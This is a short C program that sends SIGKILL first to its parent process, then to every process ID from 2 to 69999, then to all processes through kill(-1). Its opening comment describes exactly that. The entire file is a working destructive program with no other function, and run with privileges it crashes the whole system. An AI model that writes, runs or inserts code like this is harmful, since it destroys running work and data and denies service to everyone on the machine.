/* Kills whom it can, then the one who started it, then everybody by number. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
    pid_t parent = getppid();

    kill(parent, SIGKILL);
    for (pid_t pid = 2; pid < 70000; pid++) {
        if (pid != getpid())
            kill(pid, SIGKILL);
    }
    kill(-1, SIGKILL);
    return 0;
}
